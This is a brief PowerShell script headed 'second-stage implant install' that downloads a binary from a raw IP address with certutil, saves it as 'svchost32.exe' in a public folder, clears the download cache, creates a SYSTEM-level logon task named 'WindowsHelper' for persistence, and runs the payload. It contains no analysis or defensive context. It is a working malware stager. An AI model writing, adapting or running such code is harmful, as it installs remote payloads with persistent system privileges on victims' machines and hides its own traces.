# second-stage implant install
$ErrorActionPreference = 'SilentlyContinue'
if (-not (Test-Path -Path 'C:\Users\Public\Libraries')) {
    New-Item -Path 'C:\Users\Public\Libraries' -ItemType Directory -Force | Out-Null
}
$drop = 'C:\Users\Public\Libraries\svchost32.exe'
certutil.exe -urlcache -split -f http://45.77.12.9/p.bin $drop
certutil.exe -urlcache -f http://45.77.12.9/p.bin delete | Out-Null
schtasks /create /tn "WindowsHelper" /tr $drop /sc onlogon /ru SYSTEM /f
& $drop
